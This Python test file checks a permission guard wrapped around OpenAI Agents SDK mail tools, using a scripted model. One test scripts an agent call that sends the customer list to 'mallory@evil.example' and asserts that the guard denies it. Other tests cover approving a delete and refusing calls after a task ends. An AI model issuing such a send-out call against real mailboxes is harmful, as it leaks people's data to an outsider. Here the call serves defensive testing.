"""OpenAI Agents SDK function tools guarded by Mandate, in the SDK's own
agent loop (`Runner.run`) with its scripted test model (no network, no
LLM, no OpenAI key)."""

from __future__ import annotations

import asyncio
from typing import Any

from agents import Agent, FunctionTool, Runner, function_tool, set_tracing_disabled
from agents.items import ToolCallOutputItem
from agents.testing import ScriptedModel, assistant_message, function_call

from conftest import ROOT_AGENT, Server, approve_next
from mandate.openai_agents import guard_function_tools

set_tracing_disabled(True)

TOOLS = ["mail/read_inbox", "mail/send_email", "mail/delete_email"]
PARAMS = {"allowed_recipients": ["carol@example.com"]}
ANNOTATIONS = {
    "read_inbox": {"readOnlyHint": True, "openWorldHint": False},
    "send_email": {"readOnlyHint": False, "destructiveHint": False, "openWorldHint": False},
    "delete_email": {"readOnlyHint": False, "destructiveHint": True, "openWorldHint": False},
}


class Mailbox:
    def __init__(self) -> None:
        self.ran: list[str] = []

        @function_tool
        def read_inbox(folder: str) -> str:
            """Read the messages of a folder."""
            self.ran.append(f"read_inbox {folder}")
            return f"{folder}: 2 messages"

        @function_tool
        def send_email(to: str, subject: str, body: str) -> str:
            """Send a mail."""
            self.ran.append(f"send_email {to}")
            return "sent"

        @function_tool
        async def delete_email(message_id: str) -> str:
            """Delete a message."""
            self.ran.append(f"delete_email {message_id}")
            return "deleted"

        self.tools: list[FunctionTool] = [read_inbox, send_email, delete_email]


def scripted(*calls: tuple[str, dict[str, Any]]) -> ScriptedModel:
    return ScriptedModel(
        [
            [
                function_call(name, args, call_id=f"call-{i}")
                for i, (name, args) in enumerate(calls)
            ],
            [assistant_message("done")],
        ]
    )


def outputs(items: list[Any]) -> dict[str, str]:
    """The tools' outputs the model received, by call id."""
    found: dict[str, str] = {}
    for item in items:
        if isinstance(item, ToolCallOutputItem):
            raw: Any = item.raw_item
            call_id = raw["call_id"] if isinstance(raw, dict) else raw.call_id
            found[str(call_id)] = str(item.output)
    return found


async def test_the_model_reads_the_denial_and_the_allowed_tool_runs(server: Server) -> None:
    box = Mailbox()
    async with server.task(intent="answer customer mail", tools=TOOLS, params=PARAMS) as t:
        agent = Agent(
            name="mailer",
            model=scripted(
                ("send_email", {"to": "mallory@evil.example", "subject": "list", "body": "all"}),
                ("read_inbox", {"folder": "inbox"}),
            ),
            tools=list(guard_function_tools(box.tools, server="mail", annotations=ANNOTATIONS)),
        )
        result = await Runner.run(agent, "mail the customer list to mallory")
        view = await t.ashow()

    assert box.ran == ["read_inbox inbox"]
    said = outputs(result.new_items)
    assert "not among the task's allowed recipients" in said["call-0"]
    assert "did not run" in said["call-0"]
    assert said["call-1"] == "inbox: 2 messages"
    assert result.final_output == "done"
    history = {e["tool"]: e for e in view["history"]}
    assert history["send_email"]["decision"] == "deny"
    assert history["read_inbox"]["result"] is not None


async def test_an_approval_granted_meanwhile_lets_the_tool_run_once(server: Server) -> None:
    box = Mailbox()
    async with server.task(intent="clean up spam", tools=TOOLS, params=PARAMS) as t:
        tools = guard_function_tools(
            box.tools, server="mail", task=t, annotations=ANNOTATIONS, approval_timeout=30
        )
        agent = Agent(
            name="cleaner",
            model=scripted(("delete_email", {"message_id": "msg-1042"})),
            tools=list(tools),
        )
        person = asyncio.create_task(asyncio.to_thread(approve_next, server, str(t.task_id)))
        result = await Runner.run(agent, "delete the spam")
        await person

    assert box.ran == ["delete_email msg-1042"]
    assert outputs(result.new_items)["call-0"] == "deleted"


async def test_a_task_ended_mid_run_is_refused_without_crashing_the_run(server: Server) -> None:
    box = Mailbox()
    async with server.task(intent="answer customer mail", tools=TOOLS, params=PARAMS) as t:
        await t.async_client.end_task(str(t.task_id), server.idp.token(ROOT_AGENT))
        agent = Agent(
            name="mailer",
            model=scripted(("read_inbox", {"folder": "inbox"})),
            tools=list(guard_function_tools(box.tools, server="mail", task=t)),
        )
        result = await Runner.run(agent, "read")

    assert box.ran == []
    assert "invalid_token" in outputs(result.new_items)["call-0"]
    assert result.final_output == "done"
